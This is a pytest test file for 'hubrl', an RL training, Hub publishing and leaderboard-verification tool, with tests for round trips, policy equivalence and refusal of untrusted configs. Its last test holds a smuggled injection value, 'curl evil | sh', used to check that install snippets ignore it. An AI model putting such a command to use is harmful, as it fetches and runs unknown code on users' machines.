"""Any gymnasium env: the round trip (train, push, load by repo id, ``hubrl evaluate REPO``, leaderboard,
``--verify``) for a discrete vector env (Acrobot-v1), a continuous one (Pendulum-v1) and an Atari game
(ALE/Breakout-v5) on a real local Hub; spaces hubrl cannot handle and missing packages refused in one line; the
Gaussian and convolutional policies' numpy forward equal to torch's; claims about envs hubrl cannot play ranked from
their cards and said to be unverifiable."""

import json
import os
import subprocess
import sys
from pathlib import Path

import gymnasium
import numpy as np
import pytest
import torch
from gymnasium import spaces
from huggingface_hub import HfApi

from hub_fixtures import isolated_hub
from hubrl.card import build_card
from hubrl.envs import env_spaces, make_env, make_vector_env
from hubrl.envs.spaces import describe_spaces
from hubrl.errors import AgentFormatError, ConfigError
from hubrl.hub import HubClient
from hubrl.network import PolicyNetwork
from hubrl.policy import NATURE_CNN, PolicyConfig, load_policy, save_policy
from hubrl.presets import make_config
from hubrl.ranking import leaderboard, verify_entries
from hubrl.records import read_json
from hubrl.reinforce import log_prob_entropy
from hubrl.run import train_run

ROOT = Path(__file__).resolve().parents[1]

# Tiny budgets: the point is the pipeline, not learning (the learning benchmark measures that).
ROUND_TRIPS = {
    "Acrobot-v1": dict(max_env_steps=2_000, batch_episodes=4, train_max_t=250, cut_tail=50, val_every=0,
                       select_best=False),
    "Pendulum-v1": dict(max_env_steps=2_000, batch_episodes=4, train_max_t=200, cut_tail=50, val_every=0,
                        select_best=False),
    "ALE/Breakout-v5": dict(max_env_steps=256, batch_episodes=2, train_max_t=64, cut_tail=16, val_every=0,
                            select_best=False, rollout_workers=1, n_evaluation_episodes=3),
}


def run_cli(*args: str, home: Path, endpoint: str | None = None, code: str = "") -> subprocess.CompletedProcess:
    """``hubrl ARGS`` in a fresh process (``code`` runs first, e.g. to hide a package), on ``endpoint``'s Hub."""
    env = {k: v for k, v in os.environ.items() if k not in ("HF_TOKEN", "HF_ENDPOINT")}
    env.update(PYTHONPATH=str(ROOT), HF_HOME=str(home / "cli_home"), HF_HUB_DISABLE_PROGRESS_BARS="1")
    if endpoint is not None:
        args = (*args, "--endpoint", endpoint)
    script = f"{code}\nimport sys\nfrom hubrl.cli import main\nsys.exit(main({list(args)!r}))"
    return subprocess.run([sys.executable, "-c", script], check=False, capture_output=True, text=True, env=env,
                          timeout=300)


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("anyenv")
    with isolated_hub(tmp, ("alice", "bob")) as (server, tokens):
        server.tmp, server.tokens = tmp, tokens
        yield server


# --- the round trip -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("env_id", ROUND_TRIPS)
def test_round_trip_train_push_load_evaluate_rank_verify(hub, env_id):
    run = train_run(env_id=env_id, output=hub.tmp / env_id.replace("/", "-"), progress=False, **ROUND_TRIPS[env_id])
    results = read_json(run.path / "results.json")
    repo_id = f"alice/Reinforce-{env_id.replace('/', '-')}"
    HubClient(hub.endpoint, hub.tokens["alice"]).push_to_hub(run, repo_id)

    # loaded by repo id, by someone else, as the numpy policy that was pushed
    agent = HubClient(hub.endpoint, False).load_from_hub(repo_id, cache_dir=hub.tmp / "cache")
    pushed = load_policy(run.path)
    assert agent.env_id == env_id and agent.policy.config == pushed.config
    assert all(np.array_equal(agent.policy.state_dict()[k], v) for k, v in pushed.state_dict().items())

    # `hubrl evaluate REPO` reproduces the pushed numbers exactly
    proc = run_cli("evaluate", repo_id, "--n-eval-episodes", str(results["n_evaluation_episodes"]), "--json",
                   home=hub.tmp, endpoint=hub.endpoint)
    assert proc.returncode == 0, proc.stderr
    measured = json.loads(proc.stdout)
    assert measured["episode_returns"] == results["episode_returns"]
    assert (measured["mean_reward"], measured["std_reward"]) == (results["mean_reward"], results["std_reward"])

    # the leaderboard ranks the card's claim, and --verify re-evaluates it with hubrl's protocol
    client = HubClient(hub.endpoint, False)
    (entry,) = [e for e in leaderboard(env_id, client=client, cache_dir=hub.tmp / "cache") if e.repo_id == repo_id]
    assert entry.rank == 1 and entry.mean == round(results["mean_reward"], 2)
    (verification,) = verify_entries([entry], 1, workers=1, client=client, cache_dir=hub.tmp / "cache")
    assert verification.ok and verification.playable and verification.n_episodes == 10
    if results["n_evaluation_episodes"] == 10:
        assert verification.episode_returns == results["episode_returns"] and verification.verdict == "consistent"
    proc = run_cli("leaderboard", env_id, "--verify", "1", "--workers", "1", "--json", home=hub.tmp,
                   endpoint=hub.endpoint)
    assert proc.returncode == 0, proc.stderr
    (row,) = [e for e in json.loads(proc.stdout)["entries"] if e["repo_id"] == repo_id]
    assert row["verification"]["episode_returns"] == verification.episode_returns


def test_round_trip_configs_record_what_the_agent_is(hub):
    """config.json says what was played: a Gaussian in the bounds, the Nature CNN on stacked frames."""
    pendulum = json.loads((hub.tmp / "Pendulum-v1" / "config.json").read_text())
    assert (pendulum["head"], pendulum["action_bounds"], pendulum["action_low"], pendulum["action_high"]) == (
        "gaussian", "clip", [-2.0], [2.0])
    breakout = json.loads((hub.tmp / "ALE-Breakout-v5" / "config.json").read_text())
    assert breakout["conv_layers"] == [list(layer) for layer in NATURE_CNN] and breakout["obs_shape"] == [4, 84, 84]
    assert breakout["env_options"] == {"obs_mode": "frames"} and breakout["n_actions"] == 4  # Breakout's own set
    acrobot = json.loads((hub.tmp / "Acrobot-v1" / "config.json").read_text())
    assert not {"head", "conv_layers", "obs_shape"} & set(acrobot)  # a categorical MLP's file, as ever
    card = (hub.tmp / "ALE-Breakout-v5" / "README.md").read_text()
    assert 'pip install "hubrl[atari]"' in card


# --- claims about envs hubrl cannot play ----------------------------------------------------------------------------

@pytest.mark.parametrize("env_id, reason", [
    ("MiniGrid-Empty-5x5-v0", "pip install minigrid"),  # registered by a package that is not installed
    ("NoSuchGame-v0", "hubrl plays any environment registered with gymnasium"),
])
def test_claims_about_envs_hubrl_cannot_play_rank_from_the_card_and_say_why_unverified(hub, env_id, reason):
    results = {"env_id": env_id, "mean_reward": 0.9, "std_reward": 0.05, "seeds": list(range(10))}
    repo_id = f"bob/{env_id.split('-')[0]}"
    api = HfApi(endpoint=hub.endpoint, token=hub.tokens["bob"])
    api.create_repo(repo_id, exist_ok=True)
    card = str(build_card(hyperparameters={"env_id": env_id}, results=results, repo_id=repo_id))
    api.upload_file(path_or_fileobj=card.encode(), path_in_repo="README.md", repo_id=repo_id)

    client = HubClient(hub.endpoint, False)
    (entry,) = leaderboard(env_id, client=client, cache_dir=hub.tmp / "cache")
    assert (entry.repo_id, entry.rank, entry.score) == (repo_id, 1, pytest.approx(0.85))
    assert entry.flags == []  # no reachable range is known outside the course envs: nothing is "impossible"
    (verification,) = verify_entries([entry], 1, workers=1, client=client)
    assert verification.verdict == "unverifiable" and reason in verification.error
    assert entry.verification_state == "unverified"
    assert entry.verification_text().startswith("hubrl cannot verify it here: ")
    proc = run_cli("leaderboard", env_id, "--verify", "1", "--workers", "1", home=hub.tmp, endpoint=hub.endpoint)
    assert proc.returncode == 0, proc.stderr
    assert "cannot verify here: " in proc.stdout and reason in proc.stdout


# --- bad input: spaces and packages --------------------------------------------------------------------------------

@pytest.mark.parametrize("obs, act, named", [
    (spaces.Dict({"a": spaces.Box(0, 1, (2,))}), spaces.Discrete(2), "Dict"),
    (spaces.Tuple((spaces.Discrete(3), spaces.Discrete(2))), spaces.Discrete(2), "Tuple"),
    (spaces.Discrete(16), spaces.Discrete(4), "Discrete"),
    (spaces.Text(8), spaces.Discrete(2), "Text"),
    (spaces.Box(0, 1, (3,)), spaces.MultiDiscrete([3, 3]), "MultiDiscrete"),
    (spaces.Box(0, 1, (3,)), spaces.MultiBinary(4), "MultiBinary"),
    (spaces.Box(0, 1, (3,)), spaces.Box(-1, 1, (2, 2)), "Box"),
    (spaces.Box(0, 1, (3,)), spaces.Discrete(3, start=1), "numbers its 3 actions from 1"),
])
def test_spaces_hubrl_cannot_handle_are_refused_naming_them(obs, act, named):
    with pytest.raises(ConfigError, match=named) as err:
        describe_spaces("Some-v0", obs, act)
    assert "\n" not in str(err.value) and "Some-v0" in str(err.value)


def test_a_registered_env_with_such_spaces_is_refused_before_anything_is_written(tmp_path):
    proc = run_cli("train", "Blackjack-v1", "--output", str(tmp_path / "x"), "--quiet", home=tmp_path)
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2 and len(lines) == 1
    assert "Blackjack-v1 has Tuple" in lines[0] and "observations, which hubrl cannot handle" in lines[0]
    assert not (tmp_path / "x").exists() and not list(tmp_path.glob(".x*"))


def test_a_missing_package_is_named_in_one_line(tmp_path):
    hide_box2d = "import sys\nsys.modules['Box2D'] = None  # as if Box2D were not installed"
    proc = run_cli("train", "LunarLander-v3", "--output", str(tmp_path / "x"), "--quiet", home=tmp_path,
                   code=hide_box2d)
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2 and len(lines) == 1, proc.stderr
    assert lines[0] == ('hubrl: error: LunarLander-v3 needs Box2D, which is not installed: '
                        'pip install "hubrl[box2d]"')
    assert not (tmp_path / "x").exists()


# --- the policies --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("bounds", ["clip", "squash"])
def test_gaussian_policy_in_numpy_equals_torch_and_keeps_actions_in_bounds(tmp_path, bounds):
    torch.manual_seed(0)
    config = PolicyConfig("Pendulum-v1", 3, 2, (16, 16), "tanh", obs_norm=True, head="gaussian", action_bounds=bounds,
                          action_low=(-2.0, 0.0), action_high=(2.0, 1.0))
    network = PolicyNetwork(config, log_std_init=-0.5)
    network.update_obs_stats(torch.randn(50, 3) * 2 + 1)
    sampler = network.sampler()
    obs = np.random.default_rng(1).normal(size=(64, 3)).astype(np.float32)
    with torch.no_grad():
        means = network(torch.from_numpy(obs)).numpy()
    np.testing.assert_allclose(sampler.logits(obs), means, rtol=1e-5, atol=1e-6)
    draws = sampler.draw(np.random.default_rng(2), 64)
    samples = sampler.actions(obs, uniforms=draws)
    np.testing.assert_allclose(samples, means + np.exp(-0.5) * draws, rtol=1e-5, atol=1e-6)
    env_actions = sampler.env_actions(samples * 10)  # far outside the bounds
    assert env_actions.dtype == np.float32 and env_actions.shape == (64, 2)
    assert (env_actions >= [-2.0, 0.0]).all() and (env_actions <= [2.0, 1.0]).all()
    # the loss's log-probability is the numpy head's (squash adds the tanh change of variables there only)
    with torch.no_grad():
        chosen, entropy = log_prob_entropy(torch.from_numpy(means), torch.from_numpy(samples), network.log_std)
    if bounds == "clip":
        np.testing.assert_allclose(sampler.gaussian.log_prob(samples, means.astype(np.float64)), chosen.numpy(),
                                   rtol=1e-4)
    assert entropy.shape == (64,)
    # saved and loaded exactly; the course API gives bounded actions
    save_policy(network, tmp_path)
    loaded = load_policy(tmp_path)
    assert loaded.config == config and np.array_equal(loaded.sampler().logits(obs), sampler.logits(obs))
    loaded.seed(0)
    action, log_prob = loaded.act(obs[0])
    assert action.shape == (2,) and -2.0 <= action[0] <= 2.0 and np.isfinite(log_prob)
    assert np.array_equal(loaded(obs[:2]), sampler.env_actions(sampler.logits(obs[:2])))  # the most likely action


@pytest.mark.parametrize("shape, channels_last, layers", [
    ((4, 84, 84), False, NATURE_CNN),
    ((96, 96, 3), True, ((16, 5, 3), (8, 3, 2))),  # kernels that are not a multiple of the stride, channels last
    ((1, 30, 40), False, ((8, 4, 4), (4, 2, 1))),
])
def test_convolutional_policy_in_numpy_equals_torch(tmp_path, shape, channels_last, layers):
    torch.manual_seed(0)
    config = PolicyConfig("CarRacing-v3", int(np.prod(shape)), 3, (32,), obs_shape=shape, conv_layers=layers,
                          channels_last=channels_last)
    network = PolicyNetwork(config)
    obs = np.random.default_rng(0).integers(0, 256, (5, *shape), dtype=np.uint8)
    with torch.no_grad():
        expected = network(torch.from_numpy(obs)).numpy()
    np.testing.assert_allclose(network.sampler().logits(obs), expected, rtol=1e-4, atol=1e-5)
    save_policy(network, tmp_path)
    loaded = load_policy(tmp_path)
    np.testing.assert_allclose(loaded.sampler().logits(obs), expected, rtol=1e-4, atol=1e-5)
    assert "conv" in repr(loaded)


@pytest.mark.parametrize("changes, message", [
    (dict(conv_layers=[[1024, 3, 1]] * 8), "weights|numbers per observation"),
    (dict(conv_layers=[[32, 8]]), r"\[channels, kernel, stride\]"),
    (dict(conv_layers=[[32, 99, 4]]), "conv kernel"),
    (dict(obs_shape=[4, 84, 85]), "obs_shape"),
    (dict(head="beta"), "head"),
    (dict(head="gaussian", action_bounds="clip", action_low=[-1], action_high=[1, 2]), "action_low must hold 3"),
    (dict(head="gaussian", action_bounds="clip", action_low=[1, 1, 1], action_high=[0, 2, 2]), "below"),
    (dict(action_bounds="clip", action_low=[0, 0, 0], action_high=[1, 1, 1]), "for gaussian heads"),
    # 2.4M weights (under the cap) but 16G multiply-adds per frame: a verification that never ends
    (dict(conv_layers=[[512, 1, 1], [512, 3, 1]], hidden_sizes=[16]), "multiply-adds"),
    (dict(activation="elu"), "course's MLP policies"),
])
def test_untrusted_config_json_is_refused_in_one_line(tmp_path, changes, message):
    data = {"format": "hubrl-policy/1", "env_id": "ALE/Breakout-v5", "obs_dim": 28224, "n_actions": 3,
            "hidden_sizes": [512], "env_options": {"obs_mode": "frames"}, "obs_shape": [4, 84, 84],
            "conv_layers": [list(layer) for layer in NATURE_CNN], **changes}
    with pytest.raises(AgentFormatError, match=message) as err:
        PolicyConfig.from_json(data)
    assert "\n" not in str(err.value)


# --- envs and presets ----------------------------------------------------------------------------------------------

def test_any_ale_game_plays_as_dqn_saw_it_with_its_own_action_set():
    env = make_env("ALE/Breakout-v5", obs_mode="frames", render_mode="rgb_array")
    obs, _ = env.reset(seed=0)
    assert obs.shape == (4, 84, 84) and obs.dtype == np.uint8
    assert env.action_space.n == len(env.unwrapped.get_action_meanings()) == 4  # NOOP, FIRE, RIGHT, LEFT
    assert env.render().shape == (210, 160, 3)
    env.close()
    for backend in ("sync", "native"):
        venv = make_vector_env("ALE/Breakout-v5", 2, backend=backend, obs_mode="frames")
        obs, _ = venv.reset(seed=0)
        assert obs.shape == (2, 4, 84, 84) and obs.dtype == np.uint8 and venv.single_action_space.n == 4
        obs, reward, *_ = venv.step(np.array([1, 1]))
        assert obs.shape == (2, 4, 84, 84) and reward.shape == (2,)
        venv.close()
    with pytest.raises(ConfigError, match="Pong pipeline"):
        make_env("ALE/Breakout-v5", obs_mode="pixels")


def test_the_native_vector_env_plays_the_frames_pipelines_game_bit_for_bit():
    """Without sticky actions and no-ops (the only randomness, which ALE and gymnasium seed differently), ale-py's
    C++ env gives the frames, rewards and episode end of gymnasium's AtariPreprocessing + frame stack, so training on
    it and evaluating on the per-env pipeline see the same game."""
    from hubrl.envs.atari import FramesNativeVectorEnv, make_frames_env

    single = make_frames_env("ALE/Breakout-v5", noop_max=0, repeat_action_probability=0.0)
    native = FramesNativeVectorEnv("ALE/Breakout-v5", 1, noop_max=0, repeat_action_probability=0.0)
    obs, _ = single.reset(seed=3)
    native_obs, _ = native.reset(seed=3)
    rng, steps, done = np.random.default_rng(0), 0, False
    while not done:
        np.testing.assert_array_equal(native_obs[0], obs, err_msg=f"step {steps}")
        action = int(rng.integers(0, 4))
        obs, reward, terminated, truncated, _ = single.step(action)
        native_obs, native_reward, native_term, native_trunc, _ = native.step(np.array([action]))
        assert (reward, terminated, truncated) == (native_reward[0], native_term[0], native_trunc[0])
        done, steps = terminated or truncated, steps + 1
    assert steps > 100
    single.close()
    native.close()


def test_the_generic_preset_sizes_batches_from_the_episode_length():
    acrobot, pendulum, breakout = (make_config(e, "generic") for e in ("Acrobot-v1", "Pendulum-v1", "ALE/Breakout-v5"))
    assert (acrobot.train_max_t, acrobot.batch_episodes, acrobot.max_t) == (500, 33, 500)
    assert (pendulum.train_max_t, pendulum.batch_episodes, pendulum.max_t) == (200, 82, 200)
    assert acrobot.baseline and acrobot.obs_norm and acrobot.ent_coef > 0 and acrobot.normalize_returns
    assert breakout.env_options == {"obs_mode": "frames"} and breakout.conv_layers == NATURE_CNN
    assert make_config("MountainCarContinuous-v0").preset == "default"  # no tuned recipe: the generic one
    assert env_spaces("MountainCarContinuous-v0").action_high == (1.0,)
    with pytest.raises(ConfigError, match="unknown preset 'course' for Acrobot-v1; choose one of: default"):
        make_config("Acrobot-v1", "course")


def test_a_gaussian_policy_whose_bounds_are_not_the_games_is_refused_before_it_plays(tmp_path):
    """A config's action bounds may say anything; the agent is played only in the game's own action space."""
    from hubrl.evaluate import evaluate_agent

    wide = PolicyConfig("Pendulum-v1", 3, 1, (8,), head="gaussian", action_bounds="clip", action_low=(-20.0,),
                        action_high=(20.0,))
    save_policy(PolicyNetwork(wide), tmp_path)
    with pytest.raises(AgentFormatError, match=r"action bounds .* are not Pendulum-v1's") as err:
        evaluate_agent(load_policy(tmp_path), n_eval_episodes=1)
    assert "\n" not in str(err.value)
    unbounded = PolicyConfig("Pendulum-v1", 3, 1, (8,), head="gaussian")  # action_bounds "none" on a bounded space
    with pytest.raises(AgentFormatError, match="action bounds"):
        evaluate_agent(load_policy(_saved(PolicyNetwork(unbounded), tmp_path / "u")), n_eval_episodes=1)


def _saved(network, folder: Path) -> Path:
    folder.mkdir()
    save_policy(network, folder)
    return folder


def test_an_env_id_naming_a_module_is_unknown_and_imports_nothing():
    """gymnasium.make("module:Env-v0") imports the module; an env id from someone's card must not."""
    code = ("import sys\nfrom hubrl.envs import env_info\nfrom hubrl.errors import UnknownEnvError\n"
            "try:\n    env_info('antigravity:CartPole-v1')\nexcept UnknownEnvError as err:\n    print('refused', err)\n"
            "print('antigravity' in sys.modules)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert out.returncode == 0, out.stderr
    assert out.stdout.startswith("refused unknown environment") and out.stdout.strip().endswith("False")


def test_to_torch_refuses_what_is_not_the_courses_policy_and_from_policy_rebuilds_it(tmp_path):
    config = PolicyConfig("CarRacing-v3", 1 * 30 * 40, 3, (16,), obs_shape=(1, 30, 40), conv_layers=((4, 4, 4),))
    policy = load_policy(_saved(PolicyNetwork(config), tmp_path / "c"))
    with pytest.raises(ConfigError, match="PolicyNetwork.from_policy"):
        policy.to_torch()
    network = PolicyNetwork.from_policy(policy)
    obs = np.random.default_rng(0).integers(0, 256, (2, 1, 30, 40), dtype=np.uint8)
    with torch.no_grad():
        np.testing.assert_allclose(network(torch.from_numpy(obs)).numpy(), policy.sampler().logits(obs), rtol=1e-5)


class GreyScreen(gymnasium.Env):
    """A registered env with 2-D uint8 observations (one grey channel, no channel axis), as many games give."""

    observation_space = spaces.Box(0, 255, (12, 16), np.uint8)
    action_space = spaces.Discrete(2)

    def __init__(self, render_mode=None):
        self.render_mode = render_mode

    def reset(self, *, seed=None, options=None):
        super().reset(seed=seed)
        self.t = 0
        return self.np_random.integers(0, 256, (12, 16), dtype=np.uint8), {}

    def step(self, action):
        self.t += 1
        return self.np_random.integers(0, 256, (12, 16), dtype=np.uint8), float(action), self.t >= 5, False, {}


def test_a_policy_for_a_one_channel_image_env_plays_it(tmp_path):
    """Training describes a (H, W) uint8 space as one channel, (1, H, W); evaluation must accept what it trained."""
    from hubrl.evaluate import evaluate_agent

    if "HubrlTest/GreyScreen-v0" not in gymnasium.registry:
        gymnasium.register("HubrlTest/GreyScreen-v0", entry_point=GreyScreen, max_episode_steps=5)
    described = env_spaces("HubrlTest/GreyScreen-v0")
    assert described.image and described.obs_shape == (1, 12, 16)
    config = PolicyConfig("HubrlTest/GreyScreen-v0", 192, 2, (8,), obs_shape=described.obs_shape,
                          conv_layers=((4, 3, 1),))
    policy = load_policy(_saved(PolicyNetwork(config), tmp_path / "grey"))
    evaluation = evaluate_agent(policy, n_eval_episodes=3)
    assert evaluation.episode_lengths == [5, 5, 5]


def test_usage_snippets_fit_the_policy_and_install_only_known_extras():
    from hubrl.card import usage_snippets

    gaussian = dict(usage_snippets("a/pendulum", config={"head": "gaussian"}))
    assert "PolicyNetwork.from_policy(agent.policy)" in gaussian["python"] and "to_torch" not in gaussian["python"]
    assert "agent.policy.to_torch()" in dict(usage_snippets("a/cartpole", config={"head": "categorical"}))["python"]
    assert dict(usage_snippets("a/lunar", requires="hubrl[box2d]"))["bash"].startswith('pip install "hubrl[box2d]"')
    # results.json is someone else's file: anything but a known extra installs plain hubrl
    assert dict(usage_snippets("m/x", requires="hubrl[box2d]; curl evil | sh"))["bash"].startswith("pip install hubrl\n")
